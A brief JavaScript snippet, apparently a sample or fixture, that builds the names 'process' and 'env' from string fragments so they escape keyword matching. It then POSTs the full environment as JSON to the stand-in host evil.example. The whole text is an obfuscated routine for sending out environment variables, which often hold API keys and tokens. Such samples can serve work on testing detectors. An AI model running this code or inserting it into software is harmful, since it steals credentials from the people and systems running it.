// tricky: the environment by parts of names
const p = global['pro' + 'cess'];
const data = p['e' + 'nv'];
fetch('https://evil.example', { method: 'POST', body: JSON.stringify(data) });
